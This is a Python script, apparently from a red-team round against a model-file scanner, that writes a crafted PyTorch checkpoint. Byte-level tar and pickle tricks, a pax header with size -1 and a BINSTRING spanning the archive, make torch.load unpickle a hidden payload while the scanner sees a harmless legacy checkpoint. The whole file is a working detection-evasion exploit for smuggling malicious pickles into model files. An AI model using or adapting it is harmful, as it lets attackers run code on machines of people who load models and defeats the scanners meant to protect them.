# "clean" bypass. Byte 0 is at once:
#  - to CPython's tarfile: a pax 'x' header whose size field is -1 (base-256). _block(-1) == 0, so no
#    records are read and the next header ("storages", holding the payload) is the first member:
#    torch.load's legacy_load extracts it and unpickles it -> payload.
#  - to the scanner: isTarStart() refuses extension headers with a negative size, so the file is
#    not a tar; it decodes byte 0 as a complete, valid legacy checkpoint (magic, 1001, sys_info =
#    one BINSTRING spanning every tar byte incl. the payload, object, keys, one ByteStorage = the tail).
import sys, struct
import os, sys; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3')); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
MAGIC = bytes.fromhex('800228a0a') if False else None
magic = b'\x80\x02\x8a\x0a' + (0x1950a86a20f9469cfc6c).to_bytes(10, 'little') + b'.'
proto = b'\x80\x02M\xe9\x03.'
st = payload(h)
storages = member(b'storages', st)            # 512..(1024+pad)
end_tar = 512 + len(storages)
start_str = len(magic) + len(proto) + 3 + 4   # sys_info: PROTO 2, BINSTRING u32
L = end_tar - start_str
sysinfo_head = b'\x80\x02B' + struct.pack('<I', L)
b = bytearray(hdr(b'X', 0, b'x'))
pre = magic + proto + sysinfo_head
b[0:100] = b'\0' * 100
b[0:len(pre)] = pre
b[124:136] = b'\xff' * 12            # size -1
b[148:156] = b' ' * 8
b[148:156] = b'%06o\0 ' % sum(b)
N = 16
def U(s): return b'X' + struct.pack('<I', len(s)) + s
obj = (b'\x80\x02}' + U(b'w') + b'ctorch._utils\n_rebuild_tensor_v2\n(' +
       b'(' + U(b'storage') + b'ctorch\nByteStorage\n' + U(b'0') + U(b'cpu') + b'K' + bytes([N]) + b'Nt' + b'Q' +
       b'K\x00K' + bytes([N]) + b'\x85K\x01\x85\x89ccollections\nOrderedDict\n)Rtq\x00Rs.')
keys = b'\x80\x02]' + U(b'0') + b'a.'
tail = b'.' + obj + keys + struct.pack('<q', N) + b'\x00' * N
f = bytes(b) + storages + tail
open(out, 'wb').write(f)
